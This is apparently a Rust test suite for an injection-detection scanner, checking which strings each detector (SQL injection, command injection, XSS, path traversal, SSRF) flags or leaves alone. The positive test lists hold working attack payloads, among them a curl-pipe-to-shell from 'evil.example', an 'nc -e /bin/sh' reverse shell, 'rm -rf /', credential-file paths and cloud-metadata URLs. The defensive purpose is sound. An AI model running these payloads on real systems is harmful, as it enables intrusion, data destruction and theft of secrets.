//! What must be seen in each sink, and what must not.

use super::super::cpu_time::cpu_time_of;
use super::*;
use proptest::prelude::*;

fn scan(text: &str, sink: Category) -> Vec<Sighting> {
    let mut out = Vec::new();
    scan_sinks(text, &[sink], &mut out);
    for sighting in &out {
        assert!(text.get(sighting.span.clone()).is_some_and(|found| !found.is_empty()), "{text}: {sighting:?}");
        assert_eq!(sighting.category, sink);
    }
    out
}

#[track_caller]
pub(super) fn all_fire(sink: Category, texts: &[&str]) {
    let silent: Vec<_> = texts.iter().filter(|text| !scan(text, sink).iter().any(|found| found.score >= 0.5)).collect();
    assert!(silent.is_empty(), "{sink:?} did not fire on {silent:#?}");
}

#[track_caller]
pub(super) fn none_fires(sink: Category, texts: &[&str]) {
    let loud: Vec<_> =
        texts.iter().map(|text| (text, scan(text, sink))).filter(|(_, found)| !found.is_empty()).collect();
    assert!(loud.is_empty(), "{sink:?} fired on {loud:#?}");
}

/// Texts that no sink may mind.
const CALM: &[&str] = &[
    "",
    "O'Reilly",
    "It's the dog's bone; isn't it?",
    "select the best of these; order by mail",
    "Tom & Jerry; Friends",
    "a > b and b < c",
    "1 or 2",
    "yes, 'yes' or 'no'",
    "$5 | $10 || more",
    "https://example.com/a/b?c=d&id=3#top",
    "https://api.example.com:8443/v1/users/42",
    "jane.doe@example.com",
    "# Title\n\n- item one\n- item two\n\n**bold** and `code` and _emphasis_ -- a dash\n",
    "| name | id |\n|------|----|\n| find | cat |\n",
    "> quoted mail\n> more of it",
    "Rock 'n' roll -- the 60's",
    "see chapter 3...and so on.../etc.",
    "src/main.rs, docs/../README.md",
    "version 1.2.3; build 77",
    "<3 this, a<b, x <= y",
    "The union of all sets. Drop me a line; update your profile; delete my account from the list",
    "Learn JavaScript: the good parts (2008)",
    "50% off & free shipping; call now",
    "Müller & Söhne; Größe: 5 > 4",
    "price: $(5)",
    "C:\\Users\\jane\\file.txt",
    "12:30:45, 2024-01-15T10:30:00Z",
    "{\"a\": [1, 2, 3], \"b\": \"c\"}",
];

const SINKS: [Category; 6] = [
    Category::Xss,
    Category::SqlInjection,
    Category::CommandInjection,
    Category::PathTraversal,
    Category::Ssrf,
    Category::TemplateInjection,
];

#[test]
fn everyday_text_is_calm_in_every_sink() {
    for sink in SINKS {
        none_fires(sink, CALM);
    }
}

#[test]
fn sql_injection_fires() {
    all_fire(
        Category::SqlInjection,
        &[
            "' OR 1=1 --",
            "' or '1'='1",
            "\" or \"\"=\"",
            "admin'--",
            "admin' #",
            "admin'/*",
            "1; DROP TABLE users",
            "1;drop table users--",
            "'; EXEC xp_cmdshell('dir'); --",
            "1 UNION SELECT username, password FROM users",
            "1 UNION ALL SELECT NULL,NULL--",
            "' UNION/**/SELECT/**/1,2,3#",
            "1/*!50000UNION*//*!50000SELECT*/1,2",
            "1 AND SLEEP(5)",
            "'||pg_sleep(5)--",
            "1; WAITFOR DELAY '0:0:5'--",
            "1 OR 1=1",
            "x' AND 1=(SELECT COUNT(*) FROM t)--",
            "admin'or'1'='1",
            "') or ('1'='1",
            "' or 1 --",
            "' or true--",
            "1' ORDER BY 3#",
            "'; INSERT INTO users VALUES('a','b')--",
            "5; DELETE FROM orders WHERE 1=1",
            "1 AND (SELECT COUNT(*) FROM users) > 0",
            "'; UPDATE users SET role='admin'--",
            "' || '1'='1",
            "1 or 1 = 1",
            "' and '1'='1",
            "1 and benchmark(1000000,md5(1))",
            "x' or name like '%a%",
            "SELECT table_name FROM information_schema.tables",
            "'+or+1=1--",
            "%27%20OR%201%3D1--",
        ],
    );
}

#[test]
fn sql_words_in_prose_stay_silent() {
    none_fires(
        Category::SqlInjection,
        &[
            "the union select committee met",
            "She said 'maybe' or something like that",
            "Labor union selects a leader",
            "select items from the menu; drop the rest",
            "I like 'this' and \"that\" -- really",
            "5 or 6 = many",
            "O'Brien and D'Arcy or both",
            "update: set the table; insert coin",
            "time.sleep(5)",
            "he'd 'sleep' (8 hours)",
            "issue #5; PR #7",
            "what's #1?",
            "first; select one of three",
        ],
    );
}

#[test]
fn command_injection_fires() {
    all_fire(
        Category::CommandInjection,
        &[
            "; rm -rf /",
            "a;ls",
            "x | cat /etc/passwd",
            "x && curl http://evil.example/x | sh",
            "$(id)",
            "`id`",
            "file.txt; id",
            "a`whoami`b",
            "x || ping -c 1 evil.example",
            "host\nid -u",
            "host\ncat /etc/passwd",
            "foo > /etc/cron.d/x",
            "foo 2>&1",
            "cat${IFS}/etc/passwd",
            "x & whoami",
            "|nc -e /bin/sh 10.0.0.1 4444",
            ";/bin/cat /etc/passwd",
            ";c''at /etc/passwd",
            ";c\\at /etc/passwd",
            "$(curl evil.example)",
            "a; powershell -enc AAAA",
            "a & ping 127.0.0.1",
            "a;sleep 5",
            "a|sleep 5;",
            "<(curl x)",
            "a; python -c 'import os'",
            "a;{cat,/etc/passwd}",
            "foo; echo pwned",
            "host%0als",
            "x%3B%20rm%20-rf%20%2F",
        ],
    );
}

#[test]
fn shell_signs_in_prose_stay_silent() {
    none_fires(
        Category::CommandInjection,
        &[
            "cats; dogs; find peace",
            "red | green | blue",
            "first; then sort them by price",
            "Use `curl` to fetch it, then `jq`",
            "A & B, this & that, more & less",
            "Shopping:\n- milk\n- eggs\nfind the rest",
            "ping me\nping you",
            "?a=1&id=2&sort=asc&set=3",
            "&lt;b&gt; id",
            "jQuery $(document).ready, $('#id')",
            "x => y; a -> b",
            "who; what; where?",
            "<b>/home</b>",
            "Q&A; pros & cons",
        ],
    );
}

#[test]
fn xss_fires() {
    all_fire(
        Category::Xss,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil>",
            "<script\n>x",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload = 'x'>",
            "<img alt=\">\" onerror=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "java\tscript:alert(1)",
            "&#106;avascript:alert(1)",
            "javascript&colon;alert(1)",
            "javascript://%0aalert(1)",
            "\" onmouseover=\"alert(1)",
            "' onfocus=alert(1) autofocus '",
            "&lt;script&gt;alert(1)",
            "&#60;script&#62;",
            "&#x3c;script>",
            "\\u003cscript\\u003e",
            "%3Cscript%3E",
            "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            "data:text/html;base64,PHNjcmlwdD4=",
            "<object data=x>",
            "<meta http-equiv=refresh content=0>",
            "<base href=//evil>",
            "<embed src=x>",
            "</script><b>",
            "vbscript:msgbox(1)",
            "<details open ontoggle=alert(1)>",
        ],
    );
}

#[test]
fn harmless_markup_stays_silent() {
    none_fires(
        Category::Xss,
        &[
            "<b>bold</b> <i class=\"on\">x</i>",
            "<p>Turn it on = off</p>",
            "a < b on c = d",
            "List<Object> and Map<String, Base>",
            "the script ran; <scripting> is a word",
            "JavaScript: a primer",
            "data: text",
            "<a href=\"https://example.com\">x</a>",
            "say \"on\" = 1",
            "\"only\" = true",
        ],
    );
}

#[test]
fn path_traversal_fires() {
    all_fire(
        Category::PathTraversal,
        &[
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "../secret.txt",
            "..",
            "%2e%2e%2fetc",
            "..%2f..%2f",
            "%252e%252e%252f",
            "..%c0%af..%c0%af",
            "images/../../x",
            "/etc/passwd",
            "/etc/shadow",
            "/proc/self/environ",
            "C:\\Windows\\System32\\x",
            "~/.ssh/id_rsa",
            "/home/a/.aws/credentials",
            "file.txt%00.png",
            "a\0b",
            "....//....//etc",
            "..%5c..%5c",
        ],
    );
}

#[test]
fn paths_that_stay_inside_are_silent() {
    none_fires(
        Category::PathTraversal,
        &[
            "a/b/c.txt",
            "docs/../README.md",
            "wait...what",
            "and so on.../ok",
            "1..10",
            "./run.sh",
            "etc/hosts.example",
            "100%",
            "file..name",
            "Mr. ./.",
        ],
    );
}

#[test]
fn ssrf_fires() {
    all_fire(
        Category::Ssrf,
        &[
            "http://127.0.0.1/",
            "http://localhost:8080/admin",
            "https://10.1.2.3/x",
            "http://192.168.0.1",
            "http://172.16.0.1",
            "http://169.254.169.254/latest/meta-data/",
            "169.254.169.254",
            "169.254.169.254/latest/meta-data",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://127.1/",
            "http://0/",
            "http://[::1]/",
            "http://[::ffff:127.0.0.1]/",
            "http://[::ffff:7f00:1]:80/",
            "http://[fd00:ec2::254]/",
            "http://[fe80::1%25eth0]/",
            "http://user:pw@127.0.0.1/",
            "http://good.example#@127.0.0.1/",
            "http://good.example\\@127.0.0.1/",
            "http:/\\127.0.0.1/",
            "http:\\\\127.0.0.1",
            "HTTP://LOCALHOST",
            "http://127.0.0.1.nip.io/",
            "http://foo.svc.cluster.local/",
            "http://localhost./",
            "http://%6c%6f%63%61%6c%68%6f%73%74/",
            "file:///etc/passwd",
            "gopher://x:70/_",
            "dict://x",
            "//127.0.0.1/x",
            "see http://100.64.0.1/.",
            "localhost:6379",
            "ws://127.0.0.1:9222/",
            "http://①⑥⑨.254.169.254/",
            "http://127。0。0。1/",
            "http://intranet/x",
            "http%3A%2F%2F127.0.0.1%2F",
            "http://[64:ff9b::7f00:1]/",
        ],
    );
}

#[test]
fn public_urls_stay_silent() {
    none_fires(
        Category::Ssrf,
        &[
            "https://example.com/",
            "http://8.8.8.8/dns",
            "https://[2606:4700::1111]/",
            "https://example.com/redirect?to=home",
            "https://user@example.com/",
            "example.com/path",
            "10.5/8",
            "a/b",
            "profile: a/b",
            "https://localhost.example.com/",
            "https://internal.example.com/",
            "9/11",
            "mailto:x@example.com",
            "src//main.rs",
        ],
    );
}

#[test]
fn only_the_sinks_asked_for_are_judged() {
    let mut out = Vec::new();
    scan_sinks("' OR 1=1 --", &[Category::Xss, Category::Pii], &mut out);
    assert!(out.is_empty());
}

#[test]
fn repeated_signs_cost_linear_time_and_bounded_memory() {
    let units = [
        "<",
        "<a ",
        "<a on",
        "&",
        "&#",
        "'",
        "' or ",
        "';",
        "/*",
        "--",
        "#",
        "union ",
        "(",
        "; id",
        ";",
        "`",
        "$(",
        ">",
        "\n",
        "|",
        "../",
        "%2e",
        "..",
        ".",
        ":",
        "://",
        "http://",
        "//",
        "j",
        "java",
        "1 or ",
        "select a,",
        "\\u003c",
        "\"on",
        "http://a#@",
        "{{",
        "${",
        "${{<%[%'\"",
        "{{a",
        "{{'a",
        "{{7*7}}",
    ];
    for unit in units {
        for sink in SINKS {
            let text = unit.repeat(40_000 / unit.len());
            let mut found = Vec::new();
            let took = cpu_time_of(|| found = scan(&text, sink));
            assert!(took.as_millis() < 1_000, "{unit:?} in {sink:?} took {took:?}");
            assert!(found.len() <= 2 * MAX_SIGHTINGS, "{unit:?}");
        }
    }
}

#[test]
fn tokens_of_sql_follow_each_other() {
    let spans = sql::token_spans("a'b/*x*/ -- c");
    assert!(spans.windows(2).all(|pair| pair[0].end <= pair[1].start));
}

proptest! {
    #[test]
    fn no_text_makes_it_panic_and_spans_fit(
        parts in prop::collection::vec(prop_oneof![
            ".{0,5}",
            "[<>&;|`$(){}'\"#%.,:/\\\\=@\\[\\]-]{1,4}",
            "(or|and|select|union|script|on|http|java|id|cat|%2e|é|中|&#x3c;)",
        ], 0..20)
    ) {
        let text = parts.concat();
        for sink in SINKS {
            scan(&text, sink);
        }
        sql::token_spans(&text);
    }
}
